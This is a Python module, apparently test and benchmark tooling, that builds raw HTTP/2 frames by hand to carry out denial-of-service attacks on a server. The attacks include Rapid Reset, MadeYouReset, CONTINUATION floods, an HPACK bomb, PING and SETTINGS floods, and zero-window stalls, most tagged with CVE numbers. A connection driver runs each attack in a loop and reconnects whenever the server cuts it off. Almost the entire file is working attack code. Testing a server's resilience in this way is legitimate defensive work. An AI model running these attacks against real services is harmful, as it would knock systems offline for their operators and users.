"""h2_attacks.py - HTTP/2 as a hostile client writes it, for bench/attacks and the tests.

An attack is a generator of bytes for one connection, made from a Target, which knows how a
request looks there. It goes on for ever: whoever sends it stops when the server has closed.
Frames are made by hand, since no decent library sends these.
"""
import dataclasses
import itertools
import select
import socket
import struct
import time

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 2, 3, 4, 6, 7
WINDOW_UPDATE, CONTINUATION = 8, 9
ACK = END_STREAM = 1
END_HEADERS = 4
INITIAL_WINDOW_SIZE = 4
STREAMS = 100  # what a server commonly allows at once
MANY = 64  # frames of a flood that are sent together
LAST_ID = 1 << 31


def frame(kind, flags=0, stream=0, payload=b''):
    return (struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) +
            struct.pack('>I', stream) + payload)


def integer(prefix_bits, first, value):
    """RFC 7541 5.1."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out) + bytes([value])


def text(value):
    return integer(7, 0, len(value)) + value


def field(name, value):
    """A literal that is not remembered; 'name' is an index of the static table or text."""
    if isinstance(name, int):
        return integer(4, 0, name) + text(value)
    return b'\0' + text(name) + text(value)


def remembered(name, value):
    """A literal that becomes the dynamic table's first entry, 62."""
    return b'\x40' + text(name) + text(value)


REMEMBERED = bytes([0x80 | 62])
PATH, AUTHORITY, CONTENT_TYPE, COOKIE = 4, 1, 31, 32


def proto(number, value):
    return integer(7, 0, number << 3 | 2) + integer(7, 0, len(value)) + value


class Target:
    """What a request is: 'head' its header block, 'body' its data."""

    def __init__(self, path, content_type, body, extra=b''):
        self.head = (b'\x83\x86' + field(PATH, path) + field(AUTHORITY, b'test') +
                     field(CONTENT_TYPE, content_type) + extra)
        self.body = body

    def request(self, stream, end=True):
        flags = END_STREAM if end else 0
        return (frame(HEADERS, END_HEADERS, stream, self.head) +
                frame(DATA, flags, stream, self.body))


def grpc(method, message):
    return Target(b'/counter.CounterService/' + method, b'application/grpc',
                  b'\0' + struct.pack('>I', len(message)) + message, field(b'te', b'trailers'))


def items(count, make):
    return b''.join(make(b'attack-%d' % n) for n in range(count))


GRPC = grpc(b'IncrementCounter', proto(1, b'attack') + proto(2, b'like'))
GRPC_LARGE = grpc(b'BatchGetCounters', items(
    150, lambda name: proto(1, proto(1, name) + proto(2, b'like'))))
HTTP = Target(b'/api/v1/counter/increment', b'application/json',
              b'{"resource_id":"attack","counter_type":"like"}')
HTTP_LARGE = Target(b'/api/v1/counter/batch', b'application/json', b'{"items":[' + b','.join(
    b'{"resource_id":"attack-%d","counter_type":"like"}' % n for n in range(150)) + b']}')


@dataclasses.dataclass(frozen=True)
class Service:
    """A listener: an ordinary request, and one whose answer is large."""
    small: Target
    large: Target


SERVICES = {'grpc': Service(GRPC, GRPC_LARGE), 'http': Service(HTTP, HTTP_LARGE)}


def open_connection(*settings):
    return PREFACE + frame(SETTINGS, payload=b''.join(struct.pack('>HI', *s) for s in settings))


def streams():
    """Odd numbers; a client without any left would have to reconnect."""
    return range(1, LAST_ID, 2)


def batches(parts):
    """Frames joined into larger writes."""
    parts = iter(parts)
    while batch := b''.join(itertools.islice(parts, MANY)):
        yield batch


# --- the attacks -----------------------------------------------------------------------------


def rapid_reset(service):
    """CVE-2023-44487: the request's work is begun, its place is free again at once."""
    yield open_connection()
    cancel = struct.pack('>I', 8)
    yield from batches(service.small.request(s) + frame(RST_STREAM, 0, s, cancel)
                       for s in streams())


def made_you_reset(service):
    """CVE-2025-8671: the server resets, since a window beyond 2^31-1 is an error."""
    yield open_connection()
    beyond = struct.pack('>I', LAST_ID - 1)
    yield from batches(frame(HEADERS, END_HEADERS, s, service.small.head) +
                       frame(DATA, 0, s, service.small.body) + frame(WINDOW_UPDATE, 0, s, beyond)
                       for s in streams())


def made_you_reset_late(service):
    """The same behind a complete request: DATA on a stream that its client has closed."""
    yield open_connection()
    yield from batches(service.small.request(s) + frame(DATA, END_STREAM, s, b'x')
                       for s in streams())


def continuation(service):
    """CVE-2024-27316 and others: a header that never ends."""
    yield open_connection() + frame(HEADERS, 0, 1, service.small.head)
    crumb = field(b'x-continued', b'v' * 1000) * 16
    while True:
        yield frame(CONTINUATION, 0, 1, crumb)


def continuation_empty(service):
    yield open_connection() + frame(HEADERS, 0, 1, service.small.head)
    while True:
        yield frame(CONTINUATION, 0, 1) * MANY


def continuation_streams(service):
    """Headers that do end, behind as many frames as may be."""
    yield open_connection()
    for s in streams():
        yield (frame(HEADERS, END_STREAM, s, service.small.head) +
               frame(CONTINUATION, 0, s, field(b'x-more', b'v' * 16000)) * 4 +
               frame(CONTINUATION, END_HEADERS, s))


def headers_large(service):
    """A single value, larger than any header list that a server announces."""
    yield open_connection()
    block = service.small.head + field(b'x-large', b'v' * (1 << 20))
    for s in streams():
        parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]
        yield frame(HEADERS, END_STREAM, s, parts[0])
        for part in parts[1:-1]:
            yield frame(CONTINUATION, 0, s, part)
        yield frame(CONTINUATION, END_HEADERS, s, parts[-1])


def headers_indexed(service):
    """The HPACK bomb: one byte stands for a field of 4,000, 12,000 times in a frame."""
    yield open_connection()
    first = service.small.head + remembered(b'x-bomb', b'v' * 4000)
    for s in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, s, first + REMEMBERED * 12000)


def headers_many(service):
    """As many fields as a frame holds, all different from none: cookie crumbs."""
    yield open_connection()
    crumbs = field(COOKIE, b'a') * 4000
    for s in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, s, service.small.head + crumbs)


def headers_crumbs_indexed(service):
    """CVE-2026-49975: cookies of no length, a byte each, that some servers join."""
    yield open_connection()
    crumbs = bytes([0x80 | COOKIE]) * 16000
    for s in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, s, service.small.head + crumbs)


def forever(payload):
    while True:
        yield payload * MANY


def ping(_):
    """CVE-2019-9512."""
    yield open_connection()
    yield from forever(frame(PING, payload=b'attack!!'))


def settings(_):
    """CVE-2019-9515."""
    yield open_connection()
    yield from forever(frame(SETTINGS, payload=struct.pack('>HI', 3, 100)))


def settings_empty(_):
    yield open_connection()
    yield from forever(frame(SETTINGS))


def empty_data(service):
    """CVE-2019-9518."""
    yield open_connection() + frame(HEADERS, END_HEADERS, 1, service.small.head)
    yield from forever(frame(DATA, 0, 1))


def priority(_):
    """CVE-2019-9513."""
    yield open_connection()
    yield from batches(frame(PRIORITY, 0, s % 2001 | 1, struct.pack('>IB', 0, s % 256))
                       for s in streams())


def window_update(_):
    yield open_connection()
    yield from forever(frame(WINDOW_UPDATE, payload=struct.pack('>I', 1)))


def unknown(_):
    yield open_connection()
    yield from forever(frame(0xee))


def zero_window(service):
    """CVE-2019-9517: large answers that their client never takes, more and more of them."""
    yield open_connection((INITIAL_WINDOW_SIZE, 0))
    yield from (service.large.request(s) for s in streams())


def zero_window_few(service):
    """The same, no more than may be at once, and then silence."""
    yield open_connection((INITIAL_WINDOW_SIZE, 0))
    yield from (service.large.request(s) for s in itertools.islice(streams(), STREAMS))
    while True:
        yield b''


def zero_window_dribble(service):
    """CVE-2019-9511: the same, and now and then a byte is asked for."""
    yield open_connection((INITIAL_WINDOW_SIZE, 0))
    yield from (service.large.request(s) for s in itertools.islice(streams(), STREAMS))
    one = struct.pack('>I', 1)
    for s in itertools.cycle(itertools.islice(streams(), STREAMS)):
        yield frame(WINDOW_UPDATE, 0, s, one)
        yield b''


@dataclasses.dataclass(frozen=True)
class Attack:
    run: object  # a generator function of the service
    reads: bool = True
    at_once: bool = True  # the server can tell by counting; else only time ends it

    @property
    def name(self):
        return self.run.__name__ + ('' if self.reads else '_unread')


ATTACKS = [
    Attack(rapid_reset), Attack(made_you_reset), Attack(made_you_reset_late),
    Attack(continuation), Attack(continuation_empty), Attack(continuation_streams),
    Attack(headers_large), Attack(headers_indexed), Attack(headers_many),
    Attack(headers_crumbs_indexed), Attack(ping), Attack(ping, reads=False), Attack(settings),
    Attack(settings, reads=False), Attack(settings_empty), Attack(empty_data), Attack(priority),
    Attack(window_update), Attack(unknown), Attack(zero_window), Attack(zero_window, reads=False),
    Attack(zero_window_few, at_once=False), Attack(zero_window_dribble, at_once=False),
]


# --- sending them ----------------------------------------------------------------------------


class Connection:
    """One connection of an attacker; send() in pieces as the socket takes them."""

    PAUSE_S = 0.01  # an attack that says b'' waits so long

    def __init__(self, address, source=None):
        self.socket = socket.create_connection(address, timeout=5, source_address=source)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.setblocking(False)
        self.poll = select.poll()
        self.received = 0

    def _closed(self, events, reads):
        """Has the server closed? Reads what came, if that is wanted."""
        if events & (select.POLLRDHUP | select.POLLHUP | select.POLLERR):
            return True
        try:
            while reads and (data := self.socket.recv(65536)):
                self.received += len(data)
            return reads
        except BlockingIOError:
            return False
        except OSError:
            return True

    def attack(self, parts, reads, until):
        """Sends until the server closes (True) or the time is up."""
        pending = memoryview(b'')
        paused = 0
        while (now := time.monotonic()) < until:
            if not pending and now >= paused:
                pending = memoryview(next(parts))
                paused = 0 if pending else now + self.PAUSE_S
            self.poll.register(self.socket, select.POLLRDHUP | (select.POLLIN if reads else 0) |
                               (select.POLLOUT if pending else 0))
            wait_s = max(min(until, paused or until) - now, 0)
            ready = self.poll.poll(min(wait_s, 0.1) * 1000)
            if ready and self._closed(ready[0][1], reads and ready[0][1] & select.POLLIN):
                return True
            try:
                if pending:
                    pending = pending[self.socket.send(pending):]
            except BlockingIOError:
                pass
            except OSError:
                return True
        return False

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()


def attack_for(address, attack, service, seconds, connections=1 << 30, source=None):
    """Reconnects as soon as it is cut: (seconds it lasted, was it cut) of each connection; only
    the last can end by the time being up. 'source' is the attacker's own address."""
    lasted = []
    until = time.monotonic() + seconds
    while time.monotonic() < until and len(lasted) < connections:
        began = time.monotonic()
        try:
            with Connection(address, (source, 0) if source else None) as connection:
                cut = connection.attack(attack.run(service), attack.reads, until)
        except OSError:  # refused: the server may limit how many wait
            time.sleep(0.01)
            continue
        lasted.append((time.monotonic() - began, cut))
    return lasted


def frames(sock):
    """(kind, flags, stream, payload) until the server closes."""
    pending = b''
    while data := sock.recv(65536):
        pending += data
        while len(pending) >= 9 and len(pending) >= (
                whole := 9 + int.from_bytes(pending[:3], 'big')):
            yield pending[3], pending[4], int.from_bytes(pending[5:9], 'big'), pending[9:whole]
            pending = pending[whole:]


def speaks_http2(address):
    """Is the preface answered as one?"""
    with socket.create_connection(address, timeout=5) as sock:
        sock.sendall(open_connection())
        kind, *_ = next(frames(sock), (None,))
        return kind == SETTINGS


def honest_answer(address, target):
    """The data that answers one request, None when it is refused."""
    with socket.create_connection(address, timeout=10) as sock:
        sock.sendall(open_connection() + target.request(1))
        data = b''
        for kind, flags, stream, payload in frames(sock):
            if stream == 1 and kind == DATA:
                data += payload
            if kind in (RST_STREAM, GOAWAY):
                return None
            if stream == 1 and kind in (DATA, HEADERS) and flags & END_STREAM:
                return data
    return None
